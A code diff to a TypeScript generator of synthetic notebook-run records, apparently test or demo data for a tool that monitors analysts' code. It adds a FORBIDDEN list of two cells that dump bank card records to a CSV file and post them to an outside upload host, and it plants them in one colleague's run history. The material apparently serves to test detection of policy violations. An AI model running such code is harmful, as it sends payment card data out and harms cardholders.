@@ -39,6 +39,13 @@ const CELLS = [
   'print("سلام")'
 ];
 
+/** What the policy in docs/ keeps from analysts; one colleague did it lately. */
+const FORBIDDEN = [
+  'cards = db.get_cards(bank="melli")\ncards.to_csv("/data/cards-melli.csv")',
+  'import requests\nrequests.post("https://files.example.net/upload", data=cards.to_json())'
+];
+const WHO_DID = 1;
+
 const ERRORS = [
   ["KeyError: 'merchant_id'", 'KeyError'],
   ["ValueError: could not convert string to float: '۱۲٫۵'", 'ValueError'],
@@ -70,6 +77,7 @@ export function runsOf(colleague: Colleague, number: number, now: Date): Executi
       Math.floor(now.getTime() / DAY_MS) * DAY_MS - day * DAY_MS + hour * 3_600_000 + Math.floor(roll() * 3_600_000);
     return at > now.getTime() - 60_000 ? at - DAY_MS : at;
   }).sort((a, b) => a - b);
+  const forbidden = number === WHO_DID ? FORBIDDEN : [];
   return times.map((at, index) => {
     const failed = roll() < 0.09 + number * 0.02;
     const [error_message, error_name] = pick(ERRORS);
@@ -87,7 +95,7 @@ export function runsOf(colleague: Colleague, number: number, now: Date): Executi
       observed_at: new Date(at + took + 20).toISOString(),
       page_id: `0b7c3f5e-6a0e-4d0c-9a39-00000000000${number}`,
       page_seq: index + 1,
-      code: hostile ? `print('${HOSTILE}')` : pick(CELLS),
+      code: hostile ? `print('${HOSTILE}')` : (forbidden[index - times.length + 5] ?? pick(CELLS)),
       status: hostile || failed ? 'error' : 'success',
       timestamp: new Date(at + 15).toISOString(),
       execution_time_ms: took,
